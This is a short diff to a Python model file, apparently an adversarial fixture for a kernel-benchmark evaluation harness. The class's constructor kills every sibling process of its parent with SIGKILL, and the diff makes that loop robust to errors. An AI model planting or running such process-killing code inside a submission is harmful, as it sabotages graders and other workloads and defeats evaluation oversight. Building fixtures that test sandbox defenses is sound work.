@@ -1,4 +1,5 @@
 # cannot run, "is killed by SIGKILL": every other child of its parent dies
+import contextlib
 import os
 import signal
 
@@ -10,8 +11,9 @@ class ModelNew(nn.Module):
     def __init__(self):
         super().__init__()
         for pid in map(int, filter(str.isdecimal, os.listdir("/proc"))):
-            if pid != os.getpid() and self.parent(pid) == os.getppid():
-                os.kill(pid, signal.SIGKILL)
+            with contextlib.suppress(OSError):  # processes come and go meanwhile
+                if pid != os.getpid() and self.parent(pid) == os.getppid():
+                    os.kill(pid, signal.SIGKILL)
 
     def forward(self, A, B):
         return torch.tril(torch.matmul(A, B))
